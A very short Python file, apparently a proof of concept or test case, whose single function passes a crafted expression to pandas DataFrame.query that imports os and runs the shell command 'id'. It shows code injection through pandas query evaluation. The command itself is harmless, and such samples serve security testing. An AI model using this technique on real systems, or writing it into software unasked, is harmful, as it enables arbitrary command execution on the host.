import pandas


def execute(table):
    return table.query("@__import__('os').system('id') == 0")
